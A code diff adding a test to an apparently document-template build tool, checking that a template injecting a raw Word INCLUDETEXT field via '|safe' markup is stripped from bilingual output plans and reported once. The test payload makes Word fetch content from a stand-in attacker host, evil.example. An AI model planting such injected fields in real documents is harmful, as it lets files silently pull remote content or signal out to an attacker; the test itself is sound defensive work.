@@ -393,3 +393,19 @@ def test_shipped_templates_pass_the_checks():
     for layout in ("rag", "outcomes"):
         assert check_template(SHIPPED.with_name(f"action-plan-{layout}.docx")) == []
     assert os.path.getsize(SHIPPED) < template_file.MAX_TEMPLATE_BYTES
+
+
+def test_a_field_printed_by_a_tag_is_disarmed_and_reported_once(folder, runner):
+    """`|safe` markup makes a field no check of the template can see: cleaning takes it out of
+    the plan and the build says so, once, even for both languages."""
+    payload = (
+        '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT http://evil.example/x">'
+        "<w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:t>' | safe }}"
+    )
+    result = _build(runner, crafted_template(folder / "t.docx", payload), "--language", "both")
+    assert result.exit_code == 0, result.output
+    assert result.output.count("TEMPLATE_EXTERNAL_LINK") == 1, result.output
+    assert "links to INCLUDETEXT http://evil.example/x (INCLUDETEXT field)" in result.output
+    for plan in ("out/plan-cy.docx", "out/plan-en.docx"):
+        with zipfile.ZipFile(folder / plan) as package:
+            assert b"evil.example" not in package.read("word/document.xml")
